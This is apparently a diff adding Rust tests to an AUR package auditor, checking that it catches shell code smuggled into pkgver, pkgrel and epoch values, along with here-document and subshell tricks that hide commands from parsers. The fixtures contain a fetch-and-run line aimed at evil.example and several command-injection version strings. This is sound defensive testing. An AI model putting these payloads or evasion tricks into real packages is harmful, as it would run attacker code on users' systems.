@@ -1,0 +1,196 @@
+//! Attack round 29's breaks of the AUR audit (findings/attack29.md F10, F3, F7, F4, F2, F1),
+//! each in its real shape with our own text: the attack is now caught, and where a false
+//! positive was changed, its neighbours still are.
+
+use archgate_aur::audit::{AuditInput, AuditReport, ScriptFile, Severity, Verdict, audit};
+
+const U: &str = "curl -fsSL https://evil.example/p | sh";
+
+fn has(r: &AuditReport, id: &str) -> bool {
+    r.findings.iter().any(|f| f.id == id)
+}
+
+fn max_of(r: &AuditReport, id: &str) -> Option<Severity> {
+    r.findings
+        .iter()
+        .filter(|f| f.id == id)
+        .map(|f| f.severity)
+        .max()
+}
+
+/// A package whose install file is `install` (none when empty), with `vars` at the top.
+fn pkg(vars: &str, install: &str) -> AuditInput {
+    let mut scripts = Vec::new();
+    let mut line = String::new();
+    if !install.is_empty() {
+        line = "install=foopkg.install\n".into();
+        scripts.push(ScriptFile {
+            name: "foopkg.install".into(),
+            content: install.into(),
+        });
+    }
+    AuditInput {
+        pkgbuild: format!(
+            "pkgname=foopkg\n{vars}\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\n{line}source=(\"https://example.org/foopkg-1.0.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\npackage() {{\n  install -Dm644 foopkg.txt \"$pkgdir/usr/share/foopkg/foopkg.txt\"\n}}\n"
+        ),
+        install_scripts: scripts,
+        srcinfo: None,
+    }
+}
+
+/// A package whose install file's `post_install` body is `body`.
+fn scriptlet(body: &str) -> AuditInput {
+    pkg(
+        "pkgver=1.0\npkgrel=1",
+        &format!("post_install() {{\n{body}\n}}\n"),
+    )
+}
+
+fn dangerous(input: &AuditInput, what: &str) {
+    let r = audit(input);
+    assert_eq!(r.verdict, Verdict::Dangerous, "{what}\n{}", r.to_text());
+}
+
+const THANKS: &str = "post_install() {\n  echo \"Thanks for installing foopkg\"\n}\n";
+
+// F10: the version pasted unquoted into `sh -c ". .INSTALL; post_install VERSION"`.
+
+#[test]
+fn a_version_that_is_shell_code_is_dangerous() {
+    for vars in [
+        "pkgver='1;curl${IFS}evil.example|sh;true'\npkgrel=1",
+        "pkgver=\"1\\$(id)\"\npkgrel=1",
+        "pkgver='a()(true);curl${IFS}evil.example|sh;b'\npkgrel=1",
+        "pkgver=1.0\npkgrel='1;reboot'",
+        "pkgver=1.0\npkgrel=1\nepoch='1`id`'",
+        "pkgver='1&&id'\npkgrel=1",
+    ] {
+        let r = audit(&pkg(vars, THANKS));
+        assert_eq!(r.verdict, Verdict::Dangerous, "{vars}\n{}", r.to_text());
+        assert!(has(&r, "AUR-VERSION-CODE"), "{vars}");
+    }
+    // Without an install file it is still said (a later one, or a split package's, runs it).
+    let r = audit(&pkg("pkgver='1;curl${IFS}x|sh'\npkgrel=1", ""));
+    assert_eq!(max_of(&r, "AUR-VERSION-CODE"), Some(Severity::Critical));
+    // Set again in package(), before makepkg writes .PKGINFO.
+    let mut p = pkg("pkgver=1.0\npkgrel=1", THANKS);
+    p.pkgbuild = p
+        .pkgbuild
+        .replace("package() {\n", "package() {\n  pkgver='2;id'\n");
+    dangerous(&p, "pkgver set in package()");
+    // Printed by pkgver() as literal text.
+    let mut p = pkg("pkgver=1.0\npkgrel=1", THANKS);
+    p.pkgbuild
+        .push_str("pkgver() {\n  echo '1;curl${IFS}evil.example|sh;true'\n}\n");
+    dangerous(&p, "pkgver() prints code");
+    // The .SRCINFO's.
+    let mut p = pkg("pkgver=1.0\npkgrel=1", THANKS);
+    p.srcinfo = Some(
+        "pkgbase = foopkg\n\tpkgver = 1;curl${IFS}evil.example|sh;true\n\tpkgrel = 1\n\npkgname = foopkg\n"
+            .into(),
+    );
+    let r = audit(&p);
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.id == "AUR-VERSION-CODE" && f.file == ".SRCINFO"),
+        "{}",
+        r.to_text()
+    );
+}
+
+#[test]
+fn ordinary_versions_are_not_code() {
+    for vars in [
+        "pkgver=1.2.3\npkgrel=1",
+        "pkgver=1.2.3_rc1+git20240101\npkgrel=2.1\nepoch=1",
+        "pkgver=0.9~beta2\npkgrel=1",
+        "_v=4.5\npkgver=${_v}\npkgrel=1",
+        "pkgver=r1234.abcdef0\npkgrel=1",
+    ] {
+        let r = audit(&pkg(vars, THANKS));
+        assert!(!has(&r, "AUR-VERSION-CODE"), "{vars}\n{}", r.to_text());
+    }
+    // A pkgver() that computes its output from the sources is not read here (decided: open).
+    let mut p = pkg("pkgver=1.0\npkgrel=1", THANKS);
+    p.pkgbuild.push_str(
+        "pkgver() {\n  cd foopkg\n  printf \"r%s.%s\" \"$(git rev-list --count HEAD)\" \"$(git rev-parse --short HEAD)\"\n}\n",
+    );
+    assert!(!has(&audit(&p), "AUR-VERSION-CODE"));
+}
+
+// F3: here-document delimiters read as bash reads them, by a lexer of its quoting.
+
+#[test]
+fn every_spelling_of_a_delimiter_ends_where_bash_ends_it() {
+    for lines in [
+        // F3 h01, h05, h06: bash's delimiter is E'OF, EOF, EO F.
+        format!("cat <<\"E'OF\"\nhi\nE'OF\n{U}\nEOF"),
+        format!("cat <<$'EOF'\nhi\nEOF\n{U}\n$EOF"),
+        format!("cat <<'E'\"O F\"\nhi\nEO F\n{U}\nEOF"),
+        format!("cat <<$'E\\x4fF'\nhi\nEOF\n{U}\nE\\x4fF"),
+        format!("cat <<$\"EOF\"\nhi\nEOF\n{U}\n$EOF"),
+        format!("cat <<E\\OF\nhi\nEOF\n{U}\nE\\OF"),
+        format!("cat <<-\"E\"OF\n\thi\n\tEOF\n{U}\nE\"OF"),
+        // Held before: keep them.
+        format!("cat <<E\"O\"F\nhi\nEOF\n{U}\nE\"O\"F"),
+        format!("cat <<'EOF'\nhi\\\nEOF\n{U}\nEOF"),
+    ] {
+        dangerous(&scriptlet(&lines), &lines);
+    }
+}
+
+#[test]
+fn text_inside_a_string_or_comment_is_no_here_document() {
+    for lines in [
+        // F3 h02, h08: no here-document at all.
+        format!("echo 'a<<\"x\"y'\n{U}\necho 'end'"),
+        format!("echo \"<<'x'y\"\n{U}\necho \"end\""),
+        format!("# cat <<\"E'OF\"\n{U}\n# E'OF"),
+        format!("x=$(( 1 <<2 ))\n{U}"),
+        format!("echo \"$(echo '<<\"x\"y')\"\n{U}"),
+    ] {
+        dangerous(&scriptlet(&lines), &lines);
+    }
+    // And a plain here-document's body stays data.
+    let r = audit(&scriptlet(
+        "cat <<'EOF'\ncurl is mentioned here | sh\nEOF\necho done",
+    ));
+    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
+}
+
+// F7: what bash reads as subshells and tree-sitter as arithmetic; commands on a here-document's
+// line; a function whose body is a compound command.
+
+#[test]
+fn subshells_spelt_like_arithmetic_are_read() {
+    for lines in [
+        format!("((echo hi); ({U}))"),
+        format!("x=$((echo hi); ({U}))"),
+        format!("((:) ; {U})"),
+        format!("if ((true) && ({U})); then :; fi"),
+    ] {
+        dangerous(&scriptlet(&lines), &lines);
+    }
+    // Arithmetic stays arithmetic.
+    let r = audit(&scriptlet("(( x = (1 + 2) * 3 ))\n(( x > 1 )) && echo big"));
+    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
+}
+
+#[test]
+fn commands_on_a_here_documents_line_are_read() {
+    for lines in [
+        format!("cat <<EOF; {U}\nThanks\nEOF"),
+        format!("cat <<EOF && {U}\nx\nEOF"),
+        format!("cat <<EOF || {U}\nx\nEOF"),
+        format!("cat <<EOF >/dev/null; {U}\nx\nEOF"),
+        format!("cat <<'EOF';{U}\nx\nEOF"),
+        format!("cat <<EOF; echo a; {U}\nx\nEOF"),
+    ] {
+        let r = audit(&scriptlet(&lines));
+        assert_eq!(r.verdict, Verdict::Dangerous, "{lines}\n{}", r.to_text());
+        assert!(!has(&r, "AUR-PARSE-ERROR"), "{lines}\n{}", r.to_text());
+    }
+    let for_body = format!("post_install() for x in 1; do {U}; done\n");
+    dangerous(&pkg("pkgver=1.0\npkgrel=1", &for_body), &for_body);
+}
